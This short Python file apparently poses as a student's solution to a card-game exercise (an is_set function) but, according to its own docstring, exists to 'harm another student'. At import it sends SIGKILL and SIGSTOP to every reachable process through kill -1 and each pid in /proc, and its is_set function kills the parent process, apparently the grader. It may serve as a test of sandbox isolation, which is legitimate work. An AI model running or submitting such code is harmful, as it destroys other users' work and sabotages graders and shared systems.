"""Harm another student: kill every process it can (kill -1, each pid, the parent)."""
import os
import signal

for sig in (signal.SIGKILL, signal.SIGSTOP):
    for pid in [-1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid in (os.getpid(), 0):
            continue
        try:
            os.kill(pid, sig)
        except OSError:
            pass


def is_set(cards):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    return None
